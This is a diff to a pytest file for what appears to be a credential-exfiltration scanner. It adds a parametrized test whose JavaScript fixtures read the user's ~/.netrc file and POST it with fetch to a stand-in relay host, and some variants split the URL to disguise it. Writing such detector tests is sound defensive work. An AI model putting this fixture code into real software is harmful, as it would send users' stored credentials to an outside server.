@@ -5,6 +5,8 @@ from __future__ import annotations
 
 from pathlib import Path
 
+import pytest
+
 from behaviour_files import scan_errors, scan_findings
 
 
@@ -83,3 +85,22 @@ def test_the_chain_opens_with_the_call_that_handed_the_other_module_its_data(tmp
     findings = scan_findings(tmp_path, files)
     [error] = [f for f in findings if f.rule == "CREDENTIAL_EXFILTRATION" and f.severity.value == "error"]
     assert (error.evidence[0].path.removeprefix("s/"), error.evidence[0].line) == ("lib/run.js", 3)
+
+
+@pytest.mark.parametrize(
+    "module",
+    [
+        "module.exports = Object.freeze({ SINK: 'https://' + 'k.quiet-relay.example.net/x', KEY: '/.netrc' });\n",
+        "const SINK = `https://${'k.quiet-relay'}.example.net/x`;\nconst KEY = '/.netrc';\n"
+        "module.exports = { SINK, KEY };\n",
+        "exports = module.exports = { SINK: 'https://k.quiet-relay.example.net/x', KEY: '/.netrc' };\n",
+    ],
+)
+def test_the_shapes_a_commonjs_module_exports_its_constants_in(tmp_path: Path, module: str) -> None:
+    files = {
+        "lib/c.js": module,
+        "lib/main.js": "const fs = require('fs'); const os = require('os');\nconst C = require('./c');\n"
+        "const blob = fs.readFileSync(os.homedir() + C.KEY, 'utf8');\n"
+        "fetch(C.SINK, { method: 'POST', body: blob });\n",
+    }
+    assert ("CREDENTIAL_EXFILTRATION", "lib/main.js", 4) in scan_errors(tmp_path, files)
